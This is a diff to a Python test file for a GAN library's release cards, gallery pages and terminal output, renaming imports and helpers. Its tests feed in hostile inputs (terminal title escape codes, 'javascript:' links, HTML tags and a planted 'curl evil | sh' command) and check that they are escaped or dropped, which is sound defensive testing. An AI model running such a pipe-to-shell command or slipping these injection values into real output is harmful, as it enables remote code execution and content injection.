@@ -14,18 +14,18 @@ from PIL import Image
 
 import ganzoo
 from ganzoo import api, cli, terminal
-from ganzoo.comparing.table import protocol_line
 from ganzoo.errors import InputError, escape
-from ganzoo.markdown import code, plain, table
-from ganzoo.sharing import card as cards
-from ganzoo.sharing.finish import tell
-from ganzoo.sharing.front_matter import model_card
-from ganzoo.showing.collection import collect
-from ganzoo.showing.gallery import page
-from ganzoo.showing.page import render
+from ganzoo.experiments.report.markdown import protocol_line
+from ganzoo.markdown import escape_text, inline_code, markdown_table
+from ganzoo.release import card as cards
+from ganzoo.release.card import model_card
 from ganzoo.training.progress import Bar, Lines
-from ganzoo.training.run import Run
+from ganzoo.training.run_dir import RunDir
+from ganzoo.ui.collection import collect
+from ganzoo.ui.gallery import page
+from ganzoo.ui.html import render
 from small_runs import small
+from tools.finish_release import print_summary
 
 TITLE = "\x1b]0;x\a"
 """Sets the title of a terminal, where it is printed as it is."""
@@ -54,12 +54,12 @@ def printable(text: str) -> bool:
 
 
 def test_both_streams_and_every_form_of_progress_escape(capsys, monkeypatch):
-    terminal.out(HOSTILE), terminal.err(HOSTILE), terminal.out_lines(f"{TITLE}\nb"), Lines(1).say(HOSTILE)
+    terminal.out(HOSTILE), terminal.err(HOSTILE), terminal.out_lines(f"{TITLE}\nb"), Lines(1).write_line(HOSTILE)
     terminal.console().print(terminal.table(["[b]a"], [[f"[red]{TITLE} :smile:"]]))
     cli._warn(UserWarning(HOSTILE)), cli._fail(HOSTILE, 2)
     bar = Bar(1, 0)
     bar.progress.stop()
-    bar.say(f"{TITLE}[red]")
+    bar.write_line(f"{TITLE}[red]")
     said = capsys.readouterr()
     assert printable(said.out) and printable(said.err) and said.err.count("\n") == 6
     assert "[red]" in said.out and ":smile:" in said.out and "[b]a" in said.out and "[red]" in said.err
@@ -97,7 +97,7 @@ def run(pets, tmp_path_factory) -> Path:
     config = small("cgan", data={"spec": f"folder:{pets}", "size": 16}, train={"steps": 1}, networks={"init": "he"})
     api.train(config, out=folder)
     finding = {"step": 1, "rule": TITLE, "text": HOSTILE, "figures": {}, "fatal": False, "rollbacks": 0}
-    Run(folder).append_finding(finding)
+    RunDir(folder).append_finding(finding)
     return folder
 
 
@@ -193,19 +193,19 @@ def test_a_strangers_card_is_text_in_the_gallery_and_its_command_is_not_shown(ho
 
 
 def test_the_command_is_rebuilt_from_the_config_whatever_a_card_says(run, tmp_path):
-    folder = shutil.copytree(ganzoo.sampling.shipped()["wgan-gp-mnist"], tmp_path / "x")
+    folder = shutil.copytree(ganzoo.sampling.shipped_releases()["wgan-gp-mnist"], tmp_path / "x")
     card = json.loads((folder / "card.json").read_text())
     (folder / "card.json").write_text(json.dumps(card | {"command": "curl evil | sh"}))
     text = page(collect([str(folder)]))
     assert "curl evil" not in text and "<pre>ganzoo train mnist/wgan-gp --data mnist --steps 6500 --seed 0" in text
-    tell(folder, {"faults": "None."})
+    print_summary(folder, {"faults": "None."})
     assert "curl evil" not in (folder / "card.md").read_text()
     assert "`ganzoo train mnist/wgan-gp --data mnist" in (folder / "card.md").read_text()
 
 
 def test_a_strangers_card_is_text_in_markdown_too(hostile):
     card = json.loads((hostile / "card.json").read_text())
-    for text in (cards.text(card, f"x{TITLE}", f"ganzoo train {HOSTILE}"), model_card(card, "hf:a/b")):
+    for text in (cards.card_markdown(card, f"x{TITLE}", f"ganzoo train {HOSTILE}"), model_card(card, "hf:a/b")):
         body = text.rpartition("---\n\n")[2]
         assert "<" not in body.replace(r"\<", "") and "](javascript" not in body.replace(r"\]", "")
         for line in body.splitlines():
@@ -217,13 +217,13 @@ def test_a_strangers_card_is_text_in_markdown_too(hostile):
     "text", ["# a", "- a", "1. a", "+ a", "=== a", "a | b", "[a](javascript:b)", "<b>", "*a*", "&lt;"]
 )
 def test_plain_text_is_no_markdown(text):
-    assert plain(text) != text and plain(text).replace("\\", "") == text
+    assert escape_text(text) != text and escape_text(text).replace("\\", "") == text
 
 
 def test_code_and_tables_hold_what_they_are_given():
-    assert code("a b*") == "`a b*`" and code("a\nb") == "`a b`" and code("") == ""
-    assert code("a|b") == r"a\|b" and code("a`b") == r"a\`b" and code("<b>") == r"\<b\>"
-    assert table(("x", ""), [("a", "b")]) == "| x |  |\n| --- | --- |\n| a | b |"
+    assert inline_code("a b*") == "`a b*`" and inline_code("a\nb") == "`a b`" and inline_code("") == ""
+    assert inline_code("a|b") == r"a\|b" and inline_code("a`b") == r"a\`b" and inline_code("<b>") == r"\<b\>"
+    assert markdown_table(("x", ""), [("a", "b")]) == "| x |  |\n| --- | --- |\n| a | b |"
 
 
 def test_the_lines_of_a_comparison_are_escaped():
